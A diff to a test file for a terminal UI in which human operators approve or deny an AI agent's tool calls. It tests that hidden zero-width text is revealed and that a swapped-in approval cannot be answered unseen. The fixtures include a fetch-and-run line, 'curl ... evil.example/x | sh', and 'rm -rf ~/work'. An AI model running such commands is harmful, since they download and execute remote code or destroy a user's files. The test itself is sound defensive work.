@@ -4,6 +4,7 @@ import { osc52 } from '../../cli/tui/clipboard.js';
 import { runCli } from '../helpers/cli.js';
 import { approvalInfo, fakeRunner } from '../helpers/fake-runner.js';
 import { startGateway } from '../helpers/gateway.js';
+import { waitFor } from '../helpers/processes.js';
 import { KEYS, startTui } from './harness.js';
 
 const HELP_LINE = '↑↓ select  Enter output  n new  / filter  c cancel  r reconnect  ? help  q quit';
@@ -103,4 +104,30 @@ test('tui: text that hides behind zero-width characters shows in the approvals s
   const f = await tui.until((f) => f.includes('1 approval open'), 'the approvals screen');
   assert.match(f, /curl -s http:\/\/evil\.example\/x \| sh/, f);
   assert.doesNotMatch(f, /[\u200b\u2060]/);
+});
+
+test('tui: when the approval being read is withdrawn and another takes its place, the next key does not answer the new one unseen', async (t) => {
+  const g = await startGateway();
+  t.after(() => g.close());
+  const run = JSON.parse((await runCli(['runs', 'create', '--name', 'swap', '--json'], g.env)).stdout) as { id: string; token: string };
+  const runner = await fakeRunner(g, run.id, run.token, { mode: 'claude' });
+  t.after(() => runner.close());
+  await runner.events({ type: 'approval_requested', ...approvalInfo('appr_aaaaaaaaaaaaaaaa', { input: { command: 'git status' }, description: 'status' }) });
+  const tui = startTui({ url: g.url, token: g.operatorToken, fingerprint: g.fingerprint }, { size: { columns: 100, rows: 30 } });
+  t.after(() => tui.close());
+  await tui.until((f) => f.includes('1 approval'), 'the approval banner');
+  await tui.press('a');
+  await tui.until((f) => f.includes('"command": "git status"'), 'the approvals screen');
+  // Claude withdraws it and asks for something else in the same moment.
+  await runner.events(
+    { type: 'approval_resolved', approvalId: 'appr_aaaaaaaaaaaaaaaa', decision: 'deny', always: false, message: null, by: 'runner', reason: 'cancelled' },
+    { type: 'approval_requested', ...approvalInfo('appr_bbbbbbbbbbbbbbbb', { toolUseId: 'toolu_2', input: { command: 'rm -rf ~/work' }, description: 'clean up' }) },
+  );
+  await tui.until((f) => f.includes('"command": "rm -rf ~/work"'), 'the new approval under the cursor');
+  await tui.press('y');
+  await tui.until((f) => f.includes('the approval changed just now'), 'the first press refused');
+  assert.equal(g.gw.approvals.get(run.id, 'appr_bbbbbbbbbbbbbbbb')?.state, 'pending');
+  // Read, and answered on purpose.
+  await tui.press('y');
+  await waitFor(() => (g.gw.approvals.get(run.id, 'appr_bbbbbbbbbbbbbbbb')?.state === 'answered' ? true : undefined), 5000, 'answered on the second press');
 });
